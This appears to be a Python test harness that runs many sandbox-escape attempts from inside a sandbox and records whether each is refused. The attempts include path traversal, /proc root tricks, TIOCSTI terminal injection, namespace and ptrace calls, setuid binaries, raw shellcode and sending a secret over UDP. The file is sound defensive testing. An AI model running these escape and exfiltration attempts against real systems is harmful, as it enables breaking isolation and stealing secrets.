"""The attacker: runs inside the sandbox with system Python alone, tries everything, and writes down what happened.

Every attack runs in a process of its own and answers with evidence; a word that starts with "BROKE" is a hole.
`targets.json` names what stands outside: paths, process ids, ports, call numbers, the secret.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import pty
import resource
import shutil
import signal
import socket
import subprocess
import termios
import time

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
with open("targets.json") as stream:
    TARGETS = json.load(stream)
SECRET, CALLS = TARGETS["secret"], TARGETS["calls"]
ATTACKS = []


def attack(function):
    ATTACKS.append(function)
    return function


def call(name, *values):
    """What a system call answers: "OK n" or the name of the error."""
    answer = LIBC.syscall(CALLS[name], *[ctypes.c_long(value) for value in (*values, 0, 0, 0, 0, 0, 0)[:6]])
    return f"OK {answer}" if answer >= 0 else errno.errorcode[ctypes.get_errno()]


def refused(tried, expected):
    """Evidence for a table of attempts: what happened to each, and whether that is what must happen."""
    wrong = {name: said for name, said in tried.items() if said not in expected}
    return f"BROKE {wrong}" if wrong else f"{len(tried)} attempts: {sorted(set(tried.values()))}"


def attempt(action):
    try:
        return f"OK {action()!r}"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


def reads(path):
    def action():
        with open(path, "rb") as opened:
            return opened.read(4096)

    return attempt(action)


def writes(path, data=b"x"):
    def action():
        with open(path, "ab", buffering=0) as opened:
            return opened.write(data)

    return attempt(action)


GONE = ("ENOENT", "EACCES", "EPERM", "ENOTDIR", "ENXIO", "ELOOP", "EROFS")


@attack
def host_files_by_path():
    return refused({path: reads(path) for path in TARGETS["files"]}, GONE)


@attack
def host_files_by_dots():
    ups = ["/workspace/" + "../" * 40, "/proc/self/cwd/" + "../" * 40, "/tmp/../../../..", "/agent/../.."]
    return refused({up + path: reads(up + path) for up in ups for path in TARGETS["files"]}, GONE)


@attack
def host_files_by_proc_root():
    roots = ["/proc/1/root", "/proc/1/cwd/..", "/proc/self/root", "/proc/1/task/1/root", f"/proc/{os.getppid()}/root"]
    return refused({root + path: reads(root + path) for root in roots for path in TARGETS["files"]}, GONE)


@attack
def device_nodes():
    names = ["sda", "vda", "nvme0n1", "mem", "kmem", "port", "kmsg", "kvm", "vsock", "fuse", "net/tun", "loop-control"]
    tried = {name: reads(f"/dev/{name}") for name in names}
    tried["mknod block"] = attempt(lambda: os.mknod("/workspace/disk", 0o60600, os.makedev(254, 0)))
    tried["mknod mem"] = attempt(lambda: os.mknod("/tmp/mem", 0o20600, os.makedev(1, 1)))
    return refused(tried, GONE)


@attack
def kernel_files():
    tried = {path: reads(path) for path in ("/proc/kcore", "/proc/kmsg", "/dev/core", "/sys/kernel", "/sys/fs/cgroup")}
    for path in ("sysrq-trigger", "sys/kernel/core_pattern", "sys/kernel/hostname", "sys/vm/overcommit_memory"):
        tried[f"write {path}"] = writes(f"/proc/{path}")
    tried["write oom"] = writes("/proc/self/oom_score_adj", b"-1000")
    return refused(tried, GONE)


@attack
def host_processes():
    seen = [name for name in os.listdir("/proc") if name.isdigit()]
    tried = {
        f"signal {pid}": attempt(lambda pid=pid: os.kill(pid, 0)) for pid in TARGETS["pids"] if str(pid) not in seen
    }
    commands = b"".join(open(f"/proc/{name}/cmdline", "rb").read() for name in seen)  # noqa: SIM115
    if len(seen) > 6 or b"bwrap" in commands or b"pytest" in commands:
        return f"BROKE {seen} {commands!r}"
    return refused(tried, ("ESRCH",)) + f", {len(seen)} processes to be seen"


@attack
def leaks():
    names = ["environ", "cmdline", "mountinfo", "cgroup", "status", "maps", "net/unix", "sched", "limits", "comm"]
    shown = b"".join(open(f"/proc/1/{name}", "rb").read() for name in names)  # noqa: SIM115
    shown += json.dumps(dict(os.environ)).encode() + socket.gethostname().encode()
    found = [word for word in TARGETS["words"] if word.encode() in shown]
    if found:
        return f"BROKE {found}"
    return f"{len(shown)} bytes of /proc/1 hold none of {len(TARGETS['words'])} words"


@attack
def inherited_descriptors():
    open_ones = []
    for number in range(3, 256):
        try:
            open_ones.append((number, os.readlink(f"/proc/self/fd/{number}")))
        except OSError:
            continue
    mine = {os.readlink(f"/proc/self/fd/{RESULT}")}
    left = [(number, name) for number, name in open_ones if name not in mine]
    shell = os.listdir("/proc/1/fd")
    sockets = [name for name in shell if "socket:" in os.readlink(f"/proc/1/fd/{name}")]
    return f"BROKE {left} {sockets}" if left or sockets else f"0, 1, 2 only; the shell holds {sorted(shell)}, no socket"


@attack
def tcp_to_the_host():
    tried = {}
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, TARGETS["address"])):
        with socket.socket(family, socket.SOCK_STREAM) as client:
            client.settimeout(2)
            tried[host] = attempt(lambda client=client, host=host: client.connect((host, TARGETS["tcp"])))
    return refused(tried, ("ECONNREFUSED", "ENETUNREACH", "EADDRNOTAVAIL"))


@attack
def udp_to_the_host():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        here = attempt(lambda: client.sendto(SECRET.encode(), ("127.0.0.1", TARGETS["udp"])))
        away = attempt(lambda: client.sendto(SECRET.encode(), ("192.0.2.1", 53)))
    return refused({"away": away}, ("ENETUNREACH",)) + f"; to its own loopback: {here}"


@attack
def abstract_sockets():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        return refused({"abstract": attempt(lambda: client.connect("\0" + TARGETS["abstract"]))}, ("ECONNREFUSED",))


@attack
def socket_files():
    paths = [TARGETS["socket"], "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"]
    paths += ["/nix/var/nix/daemon-socket/socket", "/run/systemd/private", "/tmp/.X11-unix/X0"]
    tried = {}
    for path in paths:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            tried[path] = attempt(lambda client=client, path=path: client.connect(path))
    return refused(tried, ("ENOENT",))


@attack
def dns():
    try:
        return f"BROKE {socket.getaddrinfo('example.org', 80)}"
    except socket.gaierror as error:
        return f"no name is resolved: {error}"


@attack
def raw_and_odd_sockets():
    tried = {}
    for name, family in {
        "netlink": 16,
        "packet": 17,
        "vsock": 40,
        "alg": 38,
        "bluetooth": 31,
        "xdp": 44,
        "key": 15,
    }.items():
        tried[name] = attempt(lambda family=family: socket.socket(family, socket.SOCK_RAW).fileno())
        tried[f"{name} datagram"] = attempt(lambda family=family: socket.socket(family, socket.SOCK_DGRAM).fileno())
    tried["netlink pair"] = call("socketpair", 16, 3, 0)
    odd = refused(tried, ("EAFNOSUPPORT",))
    raw = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).fileno())
    return odd if odd.startswith("BROKE") else refused({"raw": raw}, ("EPERM",)) + "; " + odd


@attack
def new_namespaces():
    flags = {"user": 0x10000000, "mount": 0x20000, "net": 0x40000000, "pid": 0x20000000, "ipc": 0x08000000}
    flags |= {"uts": 0x04000000, "cgroup": 0x02000000, "time": 0x80}
    tried = {f"unshare {name}": call("unshare", flag) for name, flag in flags.items()}
    tried |= {f"clone {name}": call("clone", flag | 17) for name, flag in flags.items() if name != "time"}
    namespaces = refused(tried, ("EPERM",))
    return (
        namespaces
        if namespaces.startswith("BROKE")
        else refused({"clone3": call("clone3", 0, 0)}, ("ENOSYS",)) + "; " + namespaces
    )


@attack
def refused_calls():
    names = TARGETS["refused"]
    return refused({name: call(name) for name in names if name in CALLS}, ("EPERM",))


@attack
def mounting():
    def mount(*words):
        failed = LIBC.mount(*words, 0, None)
        return errno.errorcode[ctypes.get_errno()] if failed else "OK"

    tried = {"tmpfs": mount(b"none", b"/tmp", b"tmpfs"), "proc": mount(b"none", b"/tmp", b"proc")}
    tried["chroot"] = attempt(lambda: os.chroot("/tmp"))
    tried["setns"] = attempt(lambda: call("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0))
    tried["ptrace"] = call("ptrace", 16, 1)
    return refused({name: said.removeprefix("OK '").rstrip("'") for name, said in tried.items()}, ("EPERM",))


@attack
def foreign_call_numbers():
    if platform.machine() != "x86_64":
        return "this machine has one calling convention"
    got = {"x32": ends(lambda: LIBC.syscall(0x40000000 | 39)), "int 0x80": ends(thirty_two_bits)}
    return refused(got, (f"signal {int(signal.SIGSYS)}",))


def thirty_two_bits():
    """getpid by the old door: mov eax, 20; int 0x80; ret."""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    ctypes.CFUNCTYPE(ctypes.c_int)(start)()


def ends(action):
    child = os.fork()
    if child == 0:
        action()
        os._exit(0)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    return f"signal {-code}" if code < 0 else f"exit {code}"


@attack
def unknown_call_numbers():
    CALLS.update({str(number): number for number in (463, 470, 500, 9999)})
    return refused({name: call(name) for name in ("463", "470", "500", "9999")}, ("ENOSYS",))


@attack
def raised_limits():
    tried = {}
    for name in ("AS", "CPU", "FSIZE", "NOFILE", "NPROC", "CORE"):
        kind = getattr(resource, f"RLIMIT_{name}")
        most = resource.getrlimit(kind)[1]
        try:
            resource.setrlimit(kind, (most + 1, most + 1))
            tried[name] = "OK"
        except (ValueError, OSError) as error:
            tried[name] = type(error).__name__
    return refused(tried, ("ValueError", "PermissionError"))


@attack
def priorities():
    tried = {"nice": attempt(lambda: os.setpriority(os.PRIO_PROCESS, 0, -10))}
    tried["fifo"] = attempt(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))
    tried["round robin"] = attempt(lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1)))
    return refused(tried, ("EPERM", "EACCES"))


@attack
def becoming_root():
    tried = {"setuid": attempt(lambda: os.setuid(0)), "setgid": attempt(lambda: os.setgid(0))}
    tried["setgroups"] = attempt(lambda: os.setgroups([0]))
    shutil.copy("/usr/bin/id", "/tmp/id")
    os.chmod("/tmp/id", 0o6755)
    name = subprocess.run(["/tmp/id", "-u"], capture_output=True, text=True, check=False).stdout.strip()
    root_tools = [path for path in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount") if os.path.exists(path)]
    with open("/proc/self/status") as status:
        held = [line for line in status if line.startswith(("CapEff:", "NoNewPrivs:"))]
    if name != "1000" or held != ["CapEff:\t0000000000000000\n", "NoNewPrivs:\t1\n"]:
        return f"BROKE {name} {held}"
    return (
        refused(tried, ("EPERM", "EINVAL")) + f"; no new privileges, {len(root_tools)} set-user-id tools are powerless"
    )


@attack
def read_only_places():
    places = [
        "/",
        "/usr",
        "/usr/bin",
        "/usr/local",
        "/etc",
        "/etc/passwd",
        "/dev",
        "/proc",
        "/proc/sys",
        "/home",
        "/agent",
    ]
    places += ["/preflight", "/plan", "/agent/tool", "/usr/bin/env", "/proc/sys/kernel", "/dev/pts"]
    tried = {}
    for place in places:
        tried[place] = writes(f"{place}/attack" if os.path.isdir(place) else place)
    tried["chmod"] = attempt(lambda: os.chmod("/agent", 0o777))
    tried["rename"] = attempt(lambda: os.rename("/agent", "/agent2"))
    tried["unlink"] = attempt(lambda: os.unlink("/preflight"))
    return refused(tried, ("EROFS", "EACCES", "EPERM", "ENOENT", "EBUSY"))


@attack
def hard_links_out():
    sources = ["/usr/bin/env", "/agent/tool", "/etc/passwd", "/plan", "/proc/1/exe", "/proc/self/root"]
    tried = {source: attempt(lambda source=source: os.link(source, "/workspace/stolen")) for source in sources}
    tried["out"] = attempt(lambda: os.link("/workspace/targets.json", "/tmp/out"))
    return refused(tried, ("EXDEV", "EPERM", "EROFS", "ENOENT"))


@attack
def typing_into_a_terminal():
    _, inner = pty.openpty()
    os.setsid()
    fcntl.ioctl(inner, termios.TIOCSCTTY, 0)
    tried = {"TIOCSTI": attempt(lambda: fcntl.ioctl(inner, 0x5412, b"x"))}
    tried["TIOCLINUX"] = attempt(lambda: fcntl.ioctl(inner, 0x541C, b"\x02"))
    tried["high bits"] = call("ioctl", inner, 0x5412 | 1 << 32, 0)
    return refused(tried, ("EPERM",))


@attack
def the_terminal_of_the_launcher():
    return refused({"/dev/tty": reads("/dev/tty"), "/dev/console": reads("/dev/console")}, ("ENXIO", "ENOENT"))


@attack
def orphans_are_reaped():
    for _ in range(200):
        child = os.fork()
        if child == 0:
            if os.fork() == 0:
                os._exit(0)
            os._exit(0)
        os.waitpid(child, 0)
    deadline = time.monotonic() + 5
    while (left := zombies()) and time.monotonic() < deadline:
        time.sleep(0.01)
    return f"BROKE {left} are left" if left else "200 orphans ended and none is a zombie"


def zombies():
    count = 0
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/stat") as stat:
                    count += stat.read().rpartition(")")[2].split()[0] == "Z"
            except OSError:
                continue
    return count


@attack
def memory_of_other_processes():
    other = os.fork()
    if other == 0:
        time.sleep(20)
        os._exit(0)
    tried = {"ptrace": call("ptrace", 16, other), "readv": call("process_vm_readv", other)}
    tried["plan"] = "EPERM" if SECRET.encode() not in open("/plan", "rb").read() else "OK"  # noqa: SIM115
    os.kill(other, 9)
    return refused(tried, ("EPERM",))


@attack
def the_launcher_cannot_be_imitated():
    """The word that releases the command stands in /plan, but the socket it is said over is gone."""
    tried = {f"/proc/1/fd/{number}": writes(f"/proc/1/fd/{number}", b"") for number in ("0", "10")}
    kinds = [os.readlink(f"/proc/1/fd/{name}") for name in os.listdir("/proc/1/fd")]
    return (
        f"BROKE {kinds}"
        if any("socket" in kind for kind in kinds)
        else f"PID 1 holds no socket: {sorted(tried.values())}"
    )


RESULT = -1


def main():
    global RESULT
    results = {}
    for function in ATTACKS:
        reader, RESULT = os.pipe()
        child = os.fork()
        if child == 0:
            os.close(reader)
            try:
                said = function()
            except BaseException as error:
                said = f"BROKE the attack itself: {error!r}"
            os.write(RESULT, said[:4000].encode("utf-8", "backslashreplace"))
            os._exit(0)
        os.close(RESULT)
        with os.fdopen(reader, "rb") as said:
            results[function.__name__] = said.read().decode()
        os.waitpid(child, 0)
    with open("/workspace/results.json", "w") as stream:
        json.dump(results, stream)


if __name__ == "__main__":
    main()
